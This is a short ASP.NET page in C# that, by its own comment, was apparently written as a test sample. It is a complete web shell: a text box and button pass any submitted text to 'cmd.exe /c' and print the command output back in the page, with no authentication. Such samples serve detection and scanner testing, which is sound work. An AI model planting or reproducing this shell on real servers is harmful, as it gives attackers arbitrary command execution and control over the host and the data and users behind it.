<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
// Written for this test: a button runs the text box's content through cmd.exe.
string Run(string a) {
  ProcessStartInfo si = new ProcessStartInfo();
  si.FileName = "cmd.exe";
  si.Arguments = "/c " + a;
  si.RedirectStandardOutput = true;
  si.UseShellExecute = false;
  return Process.Start(si).StandardOutput.ReadToEnd();
}
void Go(object s, EventArgs e) { Response.Write(Server.HtmlEncode(Run(box.Text))); }
</script>
<form runat="server"><asp:TextBox id="box" runat="server"/><asp:Button runat="server" OnClick="Go"/></form>
